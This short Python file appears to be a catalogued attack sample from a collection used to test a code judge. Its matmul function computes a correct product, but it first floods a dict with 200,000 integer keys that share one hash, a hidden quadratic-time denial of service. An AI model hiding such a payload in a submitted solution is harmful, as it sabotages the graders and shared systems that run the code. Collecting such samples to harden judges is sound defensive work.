# /// attack
# id = "denial.hash-flood"
# title = "Fill a dict with colliding keys"
# family = "denial"
# language = "python"
# task = "matmul"
# gain = "denial"
# source = "oCERT-2011-003 (hash collision denial of service)"
# seen = "published"
# stopped_by = ["judge"]
# control = "unlimited"
# ///
"""Integers that differ by multiples of 2**61 - 1 have one hash. Inserting them takes time in the square of their
number.
"""

def matmul(A, B):
    table = {}
    for i in range(200000):
        table[i * ((1 << 61) - 1)] = 0.0
    return [[sum(a * b for a, b in zip(row, col)) for col in zip(*B)] for row in A]
